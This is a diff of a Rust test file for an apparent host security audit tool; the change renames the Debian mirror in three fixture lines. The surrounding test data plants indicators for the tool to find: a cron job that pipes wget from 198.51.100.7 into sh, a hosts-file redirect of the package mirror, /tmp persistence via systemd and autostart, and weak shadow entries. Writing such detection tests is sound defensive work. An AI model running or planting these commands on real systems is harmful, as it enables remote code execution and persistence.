@@ -113,7 +113,7 @@ fn what_a_pack_looks_for_is_found() {
         ("jobs_of_cron_that_fetch", "root wget -q http://198.51.100.7/m -O- | sh|/etc/cron.d/m"),
         ("root_logs_in_over_ssh", "yes|/etc/ssh/sshd_config"),
         ("modules_that_are_forbidden_but_loaded", "usb_storage|/etc/modprobe.d/cis.conf"),
-        ("names_of_shops_and_updates_that_are_redirected", "203.0.113.9|deb.debian.org"),
+        ("names_of_shops_and_updates_that_are_redirected", "203.0.113.9|ftp.debian.org"),
         ("package_older_than_its_repair", "openssl|3.0.14-1~deb12u2"),
         ("process_without_a_file_on_disk", "7|x|/tmp/x|/tmp/x -c"),
         ("process_with_a_preloaded_library", "7|x|/tmp/l.so"),
@@ -190,7 +190,7 @@ fn recorded() -> Made {
         .with("/etc/shadow", "root:*:19000:0:99999:7:::\nbob:$1$a$b:12000:0:99999:7:::\neve::12000:0:99999:7:::\n")
         .with("/etc/login.defs", "PASS_MAX_DAYS 99999\nENCRYPT_METHOD MD5\n")
         .with("/etc/shells", "/bin/sh\n/bin/bash\n")
-        .with("/etc/hosts", "127.0.0.1 localhost\n203.0.113.9 deb.debian.org\n")
+        .with("/etc/hosts", "127.0.0.1 localhost\n203.0.113.9 ftp.debian.org\n")
         .with("/etc/resolv.conf", "nameserver 203.0.113.53\n")
         .with("/etc/services", "ssh 22/tcp\ntftp 69/udp\n")
         .with("/etc/protocols", "icmp 1 ICMP\ntcp 6 TCP\nudp 17 UDP\n")
@@ -209,7 +209,7 @@ fn recorded() -> Made {
         .with("/etc/systemd/system/x.service", "[Service]\nExecStart=/tmp/x\n[Install]\nWantedBy=multi-user.target\n")
         .with("/etc/systemd/system/x.timer", "[Timer]\nOnCalendar=daily\n")
         .with("/etc/xdg/autostart/x.desktop", "[Desktop Entry]\nName=x\nExec=/tmp/x\n")
-        .with("/etc/apt/sources.list", "deb http://deb.debian.org/debian bookworm main\n")
+        .with("/etc/apt/sources.list", "deb http://ftp.debian.org/debian bookworm main\n")
         .with("/etc/yum.repos.d/x.repo", "[x]\nname=x\nbaseurl=http://x\nenabled=1\ngpgcheck=0\n")
         .with("/var/lib/dpkg/status", "Package: openssl\nStatus: install ok installed\nVersion: 3.0.14-1~deb12u2\n\nPackage: sudo\nStatus: install ok installed\nVersion: 1.9.13p3-1\n")
         .with("/var/lib/dpkg/info/sudo.list", "/.\n/usr/bin/sudo\n")
